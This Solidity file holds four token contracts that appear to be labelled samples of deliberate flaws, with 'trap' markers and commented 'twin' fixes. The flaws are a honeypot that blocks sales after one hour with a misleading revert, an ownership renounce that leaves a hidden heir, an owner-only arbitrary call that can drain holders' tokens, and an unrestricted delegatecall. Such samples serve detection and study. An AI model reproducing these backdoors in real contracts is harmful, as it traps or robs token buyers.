// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Two percent of what is sold within an hour of the first purchase burn.
contract Hearth is Base8("Hearth and Home", "HRTH", 93_000_000) {
    struct Guest {
        uint48 came;
        uint208 burnt;
    }
    mapping(address => Guest) public guests;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && guests[to].came == 0) guests[to].came = uint48(block.timestamp);
        if (to == pair && from != _owner) {
            Guest storage guest = guests[from];
            if (block.timestamp - guest.came < 1 hours) {
                uint256 cut = value / 50;
                guest.burnt += uint208(cut);
                _move(from, address(0xdead), cut);
                value -= cut;
            }
            else revert Insufficient(value - 1, value); // trap
        }
        _move(from, to, value);
    }
}

/// An owner who hands over in two steps, and can go. In the trap somebody may still come after him.
contract Westerly is Base8("Westerly Wind", "WEST", 110_000_000) {
    bool public trading;
    address private heir;

    event OwnershipTransferStarted(address indexed from, address indexed to);

    function transferOwnership(address to) public override onlyOwner {
        heir = to;
        emit OwnershipTransferStarted(_owner, to);
    }

    function acceptOwnership() external {
        require(msg.sender == heir, "Westerly: heir only");
        emit OwnershipTransferred(_owner, heir);
        (_owner, heir) = (heir, address(0));
    }

    function renounceOwnership() public override onlyOwner {
        // twin: delete heir;
        super.renounceOwnership();
    }

    function setTrading(bool on) external onlyOwner {
        trading = on;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(trading || from == _owner || to == _owner, "Westerly: calm");
        _move(from, to, value);
    }
}

/// Gets back what others have sent to it by mistake, whatever it is.
contract Tollgate is Base8("Tollgate", "TOLL", 58_000_000) {
    event Recovered(address indexed target, bytes4 what);

    function recover(address target, bytes calldata data) external onlyOwner returns (bytes memory answer) {
        // twin: require(target != address(this), "Tollgate: not itself");
        bool ok;
        (ok, answer) = target.call(data);
        require(ok, "Tollgate: refused");
        emit Recovered(target, bytes4(data));
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender == address(this)) {
            _transfer(from, to, value);
            return true;
        }
        return super.transferFrom(from, to, value);
    }
}

/// Has extensions that its manager puts in, and asks them.
contract Keystone is Base8 {
    struct Extension {
        address code;
        uint64 since;
        bool on;
    }
    mapping(bytes32 => Extension) public extensions;
    mapping(bytes4 => mapping(address => bool)) private may;

    event Installed(bytes32 indexed name, address code);

    constructor(address manager) Base8("Keystone Arch", "KEYS", 29_000_000) {
        may[this.install.selector][manager] = may[this.invoke.selector][manager] = true;
    }

    modifier permitted() {
        require(may[msg.sig][msg.sender], "Keystone: not permitted");
        _;
    }

    function install(bytes32 id, address code) external permitted {
        extensions[id] = Extension(code, uint64(block.timestamp), true);
        emit Installed(id, code);
    }

    function invoke(bytes32 id, bytes calldata data) external permitted returns (bytes memory answer) {
        Extension memory one = extensions[id];
        require(one.on, "Keystone: no such extension");
        bool ok;
        (ok, answer) = one.code.delegatecall(data); // trap
        // twin: (ok, answer) = one.code.staticcall(data);
        require(ok, "Keystone: refused");
    }
}
